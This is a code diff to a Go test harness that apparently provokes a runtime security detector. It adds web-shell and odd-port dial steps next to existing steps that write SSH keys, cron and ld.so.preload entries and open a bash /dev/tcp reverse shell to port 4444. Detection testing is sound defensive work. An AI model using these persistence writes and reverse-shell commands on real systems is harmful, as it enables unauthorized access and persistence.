@@ -40,7 +40,7 @@ var steps = map[string]step{
 	"ptrace":        {run: attach},
 	"load-module":   {run: loadModule},
 	"write-binary":  {run: write("/usr/local/bin/tiercel-provoked"), isolated: true, empty: []string{"/usr/local/bin"}},
-	"write-ssh-key": {run: write("/mnt/home/.ssh/authorized_keys"), isolated: true, empty: []string{"/mnt"}},
+	"write-ssh-key": {run: write("/root/.ssh/authorized_keys"), isolated: true, empty: []string{"/root"}},
 	"write-cron":    {run: write("/etc/cron.d/tiercel-provoked"), isolated: true, empty: []string{"/etc"}},
 	"write-preload": {run: write("/etc/ld.so.preload"), isolated: true, empty: []string{"/etc"}},
 	"memfd-exec":    {run: memfdExec},
@@ -50,6 +50,9 @@ var steps = map[string]step{
 	"benign-reads":  {run: benignReads},
 	"loopback":      {run: loopback},
 	"failing-chmod": {run: failingChmod},
+	"web-shell":     {run: as("httpd", "spawn-shell")},
+	"ssh-odd-port":  {run: as("ssh", "dial"), isolated: true},
+	"dial":          {run: dial},
 }
 
 func main() {
@@ -171,6 +174,41 @@ func reverseShell() error {
 	}
 	defer l.Close()
 	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3").Run()
+}
+
+// as runs another provocation from a copy of this program with another name.
+func as(name, what string) func() error {
+	return func() error {
+		if what == "dial" {
+			l, err := listen()
+			if err != nil {
+				return err
+			}
+			defer l.Close()
+		}
+		self, err := os.ReadFile("/proc/self/exe")
+		if err != nil {
+			return err
+		}
+		dir, err := os.MkdirTemp("", "tiercel-provoke-")
+		if err != nil {
+			return err
+		}
+		defer os.RemoveAll(dir)
+		bin := filepath.Join(dir, name)
+		if err := os.WriteFile(bin, self, 0o755); err != nil {
+			return err
+		}
+		return exec.Command(bin, what).Run()
+	}
+}
+
+func dial() error {
+	c, err := net.Dial("tcp4", peer+":4444")
+	if err != nil {
+		return err
+	}
+	return c.Close()
 }
 
 func attach() error {
